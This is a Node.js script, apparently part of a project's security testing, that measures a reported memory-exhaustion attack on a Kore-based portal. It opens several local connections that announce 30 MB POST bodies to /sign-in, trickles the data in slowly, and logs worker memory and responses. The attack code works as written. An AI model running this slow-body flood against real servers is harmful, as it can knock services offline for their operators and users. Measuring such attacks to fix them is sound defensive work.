// The memory attack of issue 14 item 5, measured: CONNS connections (8)
// each send the headers of a POST to PATH (/sign-in, no session) with a
// Content-Length of LENGTH (30 MB) and then trickle the body for SECONDS.
// Prints the resident memory (VmRSS, from /proc) of the portal's Kore
// workers before, at its peak during, and after the attack, and how
// each connection was answered.
//   node scripts/dos-memory.mjs PORT PIDFILE [CONNS LENGTH SECONDS PATH]
import net from 'node:net';
import { readFileSync } from 'node:fs';

const [port, pidfile] = process.argv.slice(2, 4);
const conns = Number(process.argv[4] || 8);
const length = Number(process.argv[5] || 30 * 1024 * 1024);
const seconds = Number(process.argv[6] || 20);
const path = process.argv[7] || '/sign-in';

function workers() {
	const parent = readFileSync(pidfile, 'utf8').trim();
	const kids = readFileSync(`/proc/${parent}/task/${parent}/children`, 'utf8')
		.trim().split(/\s+/).filter(Boolean);
	return kids.filter((p) => {
		try { return /wrk/.test(readFileSync(`/proc/${p}/cmdline`, 'utf8')); } catch { return false; }
	});
}
function rssKb(pid) {
	try {
		const m = readFileSync(`/proc/${pid}/status`, 'utf8').match(/VmRSS:\s+(\d+)/);
		return m ? Number(m[1]) : 0;
	} catch { return 0; }
}
const total = () => workers().reduce((s, p) => s + rssKb(p), 0);
const mb = (kb) => (kb / 1024).toFixed(1);

const before = total();
let peak = before;
const answers = [];
const socks = [];
const chunk = Buffer.alloc(256 * 1024, 0x61);
const perTick = Math.ceil(length / (seconds * 4) / chunk.length);
for (let i = 0; i < conns; i++) {
	const s = net.connect(Number(port), '127.0.0.1');
	let sent = 0, answer = '', t0 = Date.now();
	s.on('connect', () => {
		s.write(`POST ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\n` +
			`Content-Type: application/x-www-form-urlencoded\r\n` +
			`Content-Length: ${length}\r\n\r\n`);
	});
	s.on('data', (d) => {
		if (!answer) answers.push({ status: d.toString().split(' ')[1], ms: Date.now() - t0, sent });
		answer += d;
	});
	s.on('error', () => {});
	socks.push({ s, send() {
		for (let k = 0; k < perTick && sent < length && !s.destroyed; k++) {
			const n = Math.min(chunk.length, length - sent);
			s.write(chunk.subarray(0, n));
			sent += n;
		}
	} });
}
const tick = setInterval(() => {
	socks.forEach((x) => x.send());
	peak = Math.max(peak, total());
}, 250);
await new Promise((r) => setTimeout(r, seconds * 1000 + 2000));
clearInterval(tick);
peak = Math.max(peak, total());
socks.forEach((x) => x.s.destroy());
await new Promise((r) => setTimeout(r, 1000));
const after = total();
console.log(`${conns} connections, POST ${path}, Content-Length ${length}, ${seconds} s`);
console.log(`workers RSS (both, MB): before ${mb(before)}  peak ${mb(peak)}  after ${mb(after)}`);
const counts = {};
answers.forEach((a) => { counts[a.status] = (counts[a.status] || 0) + 1; });
console.log(`answers: ${JSON.stringify(counts)}; unanswered ${conns - answers.length}; ` +
	`slowest answer ${Math.max(0, ...answers.map((a) => a.ms))} ms after ${Math.max(0, ...answers.map((a) => a.sent))} body bytes`);
